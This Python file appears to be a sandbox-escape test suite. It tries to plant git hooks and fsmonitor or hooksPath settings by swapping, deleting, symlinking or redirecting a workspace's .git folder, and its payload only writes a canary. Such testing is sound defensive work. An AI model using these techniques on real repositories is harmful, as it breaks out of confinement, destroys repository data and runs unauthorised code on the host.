"""The repository's own folder moved away, and another put in its place whose hooks and settings would run on the host."""

import subprocess

from attack import *

workspace = world["workspace"]
trap = f"#!/bin/sh\necho {world['canary']} > {world['trapFile']}\n"


def plant(folder):
    """Hooks and settings in a folder of git, as far as they can be written."""
    said = []
    with open(f"{workspace}/trap.sh", "w") as file:
        file.write(trap)
    os.chmod(f"{workspace}/trap.sh", 0o755)
    for name in ("post-index-change", "pre-commit", "post-checkout", "reference-transaction"):
        try:
            os.makedirs(f"{folder}/hooks", exist_ok=True)
            with open(f"{folder}/hooks/{name}", "w") as file:
                file.write(trap)
            os.chmod(f"{folder}/hooks/{name}", 0o755)
            said.append(name)
        except OSError as error:
            said.append(str(error))
    for name in ("config", "config.worktree"):
        try:
            with open(f"{folder}/{name}", "a") as file:
                file.write(f"[core]\n\tfsmonitor = {workspace}/trap.sh\n\thooksPath = {workspace}/evil-hooks\n[extensions]\n\tworktreeConfig = true\n")
            said.append(name)
        except OSError as error:
            said.append(str(error))
    return said


@attack(".git renamed and made anew")
def renamed(canary):
    os.rename(f"{workspace}/.git", f"{workspace}/.git-old")
    subprocess.run(["git", "init", "-q", workspace], check=True, capture_output=True)
    return plant(f"{workspace}/.git")


@attack(".git removed piece by piece and made anew")
def removed(canary):
    done = subprocess.run(["rm", "-rf", f"{workspace}/.git"], capture_output=True, text=True, check=False)
    subprocess.run(["git", "init", "-q", workspace], capture_output=True, check=False)
    return done.stderr[-100:], plant(f"{workspace}/.git")


@attack(".git exchanged with a folder of one's own in one step (renameat2)")
def exchanged(canary):
    os.makedirs(f"{workspace}/{canary}/hooks")
    plant(f"{workspace}/{canary}")
    return text_of(call, 276 if os.uname().machine == "aarch64" else 316, ctypes.c_long(-100), f"{workspace}/{canary}".encode(), ctypes.c_long(-100), f"{workspace}/.git".encode(), ctypes.c_long(2))


@attack(".git made a file or a link that points at a folder of one's own")
def pointed(canary):
    said = []
    for replace in (lambda: os.symlink(f"{workspace}/other.git", f"{workspace}/.git"), lambda: open(f"{workspace}/.git", "w").write(f"gitdir: {workspace}/other.git\n")):
        try:
            replace()
        except OSError as error:
            said.append(str(error))
    return said


@attack("hooks and settings through another name: a hard link, a bind of one's own, /proc/self/root")
def other_name(canary):
    said = []
    for path in (f"/proc/self/root{workspace}/.git", f"/proc/1/root{workspace}/.git", f"/proc/self/cwd/.git"):
        said.append(plant(path)[:2])
    for name in ("config", "hooks/pre-commit"):
        try:
            os.link(f"{workspace}/trap.sh", f"{workspace}/.git/{name}-linked")
            os.rename(f"{workspace}/.git/{name}-linked", f"{workspace}/.git/{name}")
            said.append(f"{name} replaced")
        except OSError as error:
            said.append(str(error))
    return said


@attack("commondir, alternates and a worktree that lead elsewhere")
def elsewhere(canary):
    other = f"{workspace}/other.git"
    subprocess.run(["git", "init", "-q", "--bare", other], capture_output=True, check=False)
    said = plant(other)
    for path, text in (("commondir", f"{other}\n"), ("objects/info/alternates", f"{other}/objects\n"), ("gitdir", f"{other}\n")):
        try:
            with open(f"{workspace}/.git/{path}", "w") as file:
                file.write(text)
            said.append(path)
        except OSError as error:
            said.append(str(error))
    return said


if __name__ == "__main__":
    main(abreast=1)
